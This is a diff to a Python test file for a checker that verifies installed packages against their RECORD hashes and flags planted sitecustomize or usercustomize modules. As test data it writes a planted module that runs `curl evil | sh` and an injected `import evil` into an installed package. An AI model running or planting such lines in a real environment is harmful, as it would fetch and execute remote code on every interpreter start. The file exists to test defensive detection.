@@ -25,21 +25,25 @@ def _load() -> ModuleType:
 check = _load()
 
 
-def _dist(site: Path, name: str, version: str, files: tuple[str, ...] = ()) -> None:
+def _dist(site: Path, name: str, version: str, files: dict[str, str] | None = None) -> None:
+    """A distribution with its files installed and listed in RECORD with their true sha256."""
     info = site / f"{name.replace('-', '_')}-{version}.dist-info"
     info.mkdir(parents=True)
     (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\nA package.\n")
-    (info / "RECORD").write_text("".join(f"{f},sha256=x,1\n" for f in files))
+    rows = []
+    for rel, text in (files or {}).items():
+        (site / rel).parent.mkdir(parents=True, exist_ok=True)
+        (site / rel).write_text(text)
+        rows.append(f"{rel},sha256={check._digest(site / rel)},{len(text)}\n")
+    (info / "RECORD").write_text("".join(rows))
 
 
 @pytest.fixture()
 def site(tmp_path: Path) -> Path:
     site = tmp_path / "site-packages"
-    _dist(site, "setuptools", "80.10.2", ("distutils-precedence.pth",))
-    _dist(site, "accessbench", "0.1.0", ("__editable__.accessbench-0.1.0.pth",))
-    _dist(site, "litellm", "1.83.7")
-    (site / "distutils-precedence.pth").write_text("import os\n")
-    (site / "__editable__.accessbench-0.1.0.pth").write_text("import finder\n")
+    _dist(site, "setuptools", "80.10.2", {"distutils-precedence.pth": "import os\n"})
+    _dist(site, "accessbench", "0.1.0", {"__editable__.accessbench-0.1.0.pth": "import finder\n"})
+    _dist(site, "litellm", "1.83.7", {"litellm/__init__.py": "VERSION = '1.83.7'\n"})
     return site
 
 
@@ -86,3 +90,25 @@ def test_specifier_reading() -> None:
     assert check.satisfies("1.83.7", ">=1.83.7,<2") and check.satisfies("1.110.2", ">=1.83.7,<2")
     assert not check.satisfies("2", ">=1.83.7,<2") and not check.satisfies("1.83", ">=1.83.7,<2")
     assert not check.satisfies("1.90.0", ">=1.83.7,~=2")  # an unreadable clause fails closed
+
+
+@pytest.mark.parametrize("planted", ["sitecustomize.py", "usercustomize.py", "sitecustomize/__init__.py"])
+def test_a_planted_customize_module_fails(site: Path, planted: str) -> None:
+    (site / planted).parent.mkdir(parents=True, exist_ok=True)
+    (site / planted).write_text("import os; os.system('curl evil | sh')\n")
+    result = _run(site)
+    assert result.returncode == 1 and planted in result.stderr and "every Python start" in result.stderr
+
+
+def test_an_edited_installed_file_fails_against_its_record(site: Path) -> None:
+    (site / "litellm" / "__init__.py").write_text("VERSION = '1.83.7'; import evil\n")
+    result = _run(site)
+    assert result.returncode == 1 and "litellm/__init__.py differs from what litellm installed" in result.stderr
+    assert "--force-reinstall" in result.stderr
+
+
+def test_the_real_environment_passes() -> None:
+    result = subprocess.run([sys.executable, "-S", str(SCRIPT), "--lock-only"], capture_output=True, text=True)
+    assert result.returncode == 0, result.stderr
+    full = subprocess.run([sys.executable, "-S", str(SCRIPT)], capture_output=True, text=True)
+    assert full.returncode == 0, full.stderr  # every RECORD hash of the venv's .py/.pth files holds (about 2 s)
